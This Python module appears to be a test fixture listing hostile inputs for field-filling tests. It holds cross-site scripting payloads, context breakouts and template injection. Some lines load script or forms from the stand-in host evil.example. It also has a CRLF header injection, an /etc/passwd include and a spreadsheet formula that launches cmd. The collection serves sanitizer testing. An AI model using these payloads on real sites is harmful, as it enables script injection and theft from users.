"""Text that tries to be more than text: the one list for every test that fills fields with it.

``own`` is the function that a test plants in the page: whoever gets it called has won. ``evil.example`` is the host that
nothing may be asked of.
"""

PAYLOADS: tuple[str, ...] = (
    # elements
    "<script>own(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>own(2)</script\t>",
    "<img src=x onerror=own(3)>",
    "<svg/onload=own(4)>",
    "<details open ontoggle=own(5)>shown</details>",
    "<video><source onerror=own(6)></video>",
    "<iframe srcdoc='<script>parent.own(7)</script>'></iframe>",
    "<object data=//evil.example/o></object><embed src=//evil.example/e>",
    "<form action=//evil.example/><button autofocus>Sign in</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "<template><script>own(8)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=own(9)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=own(10)&gt;'>",
    "<math><a xlink:href=javascript:own(11)>x</a></math>",
    "<svg><a href='javascript:own(12)'><text y=9>x</text></a><animate onbegin=own(13) attributeName=x></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=own(14)>#x'/></svg>",
    # out of where it stands
    '"><img src=x onerror=own(15)>',
    "' autofocus onfocus=own(16) x='",
    "</td></tr></tbody></table><svg onload=own(17)>",
    "</bdi></button></dd></dl></aside><details open ontoggle=own(18)>",
    "</title></textarea></style></script><img src=x onerror=own(19)>",
    "--><img src=x onerror=own(20)><!--",
    "]]><img src=x onerror=own(21)>",
    # what the page itself would run: a template, htmx, a data island
    "{{ own(22) }}${own(22)}#{own(22)}<%= own(22) %>",
    '{% include "/etc/passwd" %}',
    "<tr hx-get=//evil.example/ hx-trigger=load hx-on:htmx:load=own(23)>",
    '\\u003cscript\\u003eown(24)\\u003c/script\\u003e"};own(24);//',
    "&lt;script&gt;own(25)&lt;/script&gt;&#60;img src=x onerror=own(25)&#62;",
    # addresses and styles
    "javascript:own(26)",
    " \x01java\tscript:own(27)//evil.example/",
    "data:text/html,<script>own(28)</script>",
    "//evil.example/%0d%0aSet-Cookie:%20a=b\r\nX-Own: 1",
    "<style>@import '//evil.example/s.css';body{background:url(//evil.example/b)}</style>",
    # what the eye or the next program takes for something else
    "\u202e\u2066gnp.elif\u2069\u200b\ufeff",
    "a\x00b\x08\x1b[2J\x7f\x85c",
    "\ud800 \udfff\ufffe",
    "=cmd|' /C calc'!A0",
    "<b>" + "A" * 20_000,
)
